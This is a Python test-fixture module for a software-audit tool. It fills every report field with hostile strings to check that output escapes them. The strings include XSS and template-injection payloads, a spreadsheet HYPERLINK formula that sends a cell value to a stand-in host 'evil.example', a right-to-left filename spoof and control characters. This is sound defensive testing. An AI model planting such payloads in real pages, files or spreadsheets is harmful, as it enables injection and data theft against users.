# SPDX-FileCopyrightText: 2026 The auditor developers
# SPDX-License-Identifier: GPL-2.0-or-later
"""Texts that mean something to a reader of some form, and reports that have them wherever others can put a text."""

from collections.abc import Mapping
from types import MappingProxyType

from msgspec.structs import replace

from auditor.findings.judge import judge
from auditor.model.custody import Authorship, GitObject, HistoryGap, People, Signature, Signing
from auditor.model.declared import Component, Exposure, Limit, Release, Source, System, Vendor
from auditor.model.manifest import Manifest
from auditor.model.measured import (
    Audit,
    Dispute,
    Function,
    LeftOutComponent,
    MeasuredFile,
    Shipped,
    SourceRevision,
    UnclassifiedFile,
    UnmeasuredFile,
)
from auditor.renderers import Report
from tests.made.audits import REVISION, SOURCE, URL, audit_with, measured_file, result_of
from tests.made.manifests import BETA, MANIFEST
from tests.made.pasts import make_past
from tests.made.reports import DOWNSTREAM, disputed_file, judged

HOSTILE: Mapping[str, str] = MappingProxyType(
    {
        "markup": "</script><img src=x onerror=alert(1)>",
        "attribute": '" onmouseover="alert(1)" x="',
        "apostrophe": "' autofocus onfocus='alert(1)",
        "comment": "--><!--<style>*{display:none}</style>",
        "closing": "</bdi></a></th></table></details></main>",
        "entity": "&lt;script&gt;&#x3c;]]>",
        "template": "{{ 7 * 7 }}{% raw %}{# x #}{0} [x](javascript:alert(1))",
        "javascript": "javascript:alert(1)",
        "formula": "=HYPERLINK(\"https://evil.example/\"&A1)",
        "formula behind a blank": " +1;@SUM(A1)",
        "table": "a|b`c``d|\\|e**f**_g_~h~ # i",
        "mention": "@everyone #1 !2 www.evil.example https://evil.example/ a@evil.example",
        "comma": 'a,"b",\'c\';d\te',
        "right-to-left": "a\u202ecod.exe\u2066\u200b",
        "control": "a\x00\x1b[31m\r\nb\x7f\ufffe",
        "not UTF-8": "a\udcffb",
        "several": "a|b`c``</summary><script>x</script>\n| @all [l](javascript:1) {{ 1 }} \u202e<img src=x>.c",
        "long": "n" * 4_000,
    }
)  # fmt: skip


def hostile_report(text: str) -> Report:
    """`text` in every place that an upstream, a manifest, an option or an error message can fill."""
    manifest = _hostile_manifest(text)
    report = judged(_hostile_audit(manifest, text), manifest)
    return replace(report, recorded=text, manifest_name=text, past=make_past(text))


def wholly_hostile_report() -> Report:
    """Every hostile text in one report: all of them in each place, and a file with a function for each."""
    report = hostile_report("\n".join(HOSTILE.values()))
    daemon, *others = report.audit.components
    files = [
        measured_file(f"{place}/{text}.c", code=10 + place, functions=(Function(text, 1, place + 1, place, place, 0),))
        for place, text in enumerate(HOSTILE.values(), start=1)
    ]
    audit = replace(report.audit, components=(replace(daemon, files=(*daemon.files, *files)), *others))
    return replace(report, audit=audit, verdict=judge(audit, report.manifest))


def _hostile_manifest(text: str) -> Manifest:
    """Two components of the TCB, one of them with what is exposed, and one that is cited; a limit is exceeded."""
    daemon, hypervisor, *others = MANIFEST.components
    (cited,) = (item for item in others if item.cited)
    return replace(
        MANIFEST,
        system=System(text, (*MANIFEST.system.places, text), text),
        groups={name: replace(group, title=text, explanation=text) for name, group in MANIFEST.groups.items()},
        releases={"R1": Release(text, {text: text})},
        pages={name: replace(page, title=text, url=text, revision=text) for name, page in MANIFEST.pages.items()},
        components=tuple(_hostile_component(item, text) for item in (daemon, hypervisor, cited)),
        limits=(Limit("tcb", 1),),
        claims=tuple(
            replace(claim, quote=text, reading=text, **({"maximum": 11} if claim.id == "small" else {}))
            for claim in MANIFEST.claims
        ),
    )


def _hostile_component(component: Component, text: str) -> Component:
    exposed = (Exposure(("**",), text),) if component.group == "qubes" else ()
    source = Source(text, include=(text,), exclude=(text,), exposed=exposed, note=text)
    return replace(
        component,
        title=text,
        sentence=text,
        evidence=text,
        doubt=text,
        runs_in=(*component.runs_in, text) if component.runs_in else (),
        sources=(source,) if component.sources else (),
        cited=replace(component.cited, source=text, url=text) if component.cited else None,
        vendor=Vendor(text, text, text),
    )


def _hostile_audit(manifest: Manifest, text: str) -> Audit:
    daemon, hypervisor, cited = manifest.components
    here, there = _hostile_files(text)
    gaps = (UnmeasuredFile(URL, text, text), UnmeasuredFile(text, "", text))
    patched = Shipped(URL, replace(DOWNSTREAM, repository=text, ref=text), (text[:200],), (there,), (text,))
    authorship = Authorship(People(1, 1, 1), People(1, 1, 1), (HistoryGap(text, text),))
    known, forged, foreign = _hostile_revisions(text)
    results = (
        result_of((here,), gaps, component=daemon, revisions=(known,), shipped=(patched,), authorship=authorship),
        result_of((there,), component=hypervisor, revisions=(forged, foreign)),
        result_of(component=cited),
    )
    return audit_with(
        results,
        manifest,
        as_of=text,
        instruments={text: text},
        unclassified=(UnclassifiedFile(URL, REVISION, text),),
        left_out=(LeftOutComponent("block", text, "third-party", text),),
        authorship={"tcb": authorship},
    )


def _hostile_files(text: str) -> tuple[MeasuredFile, MeasuredFile]:
    """A file of a repository that auditor would read, and one of a repository that it would not.

    Each function has a CCN of its own, so that no order depends on the text.
    """
    item = disputed_file(f"{text}/{text}.c", Dispute("A", 10, 9, text))
    here, there = (
        replace(
            item.measurement,
            labels=(text,),
            functions=(Function(text, 1, 2, 3, ccn, 5), Function(text, 4, 5, 3, ccn - 1, 5)),
        )
        for ccn in (99, 97)
    )
    return replace(item, measurement=here), MeasuredFile(replace(item.file, url=text, revision=text), there)


def _hostile_revisions(text: str) -> tuple[SourceRevision, SourceRevision, SourceRevision]:
    """A commit that can be, one that cannot, and one of a repository that auditor would not read."""
    tag = GitObject("tag", text, text, text, text, Signature("SSH", text, text, text))
    signing = Signing(tag, replace(tag, kind="commit", signature=Signature("X.509", problem=text)))
    known = replace(SOURCE, repository=text, ref=text, tree=text, signing=signing)
    forged = replace(known, url=BETA, revision=text, locked=False, overridden=True)
    return known, forged, SourceRevision(text, text, text, text, text, locked=False, overridden=True)
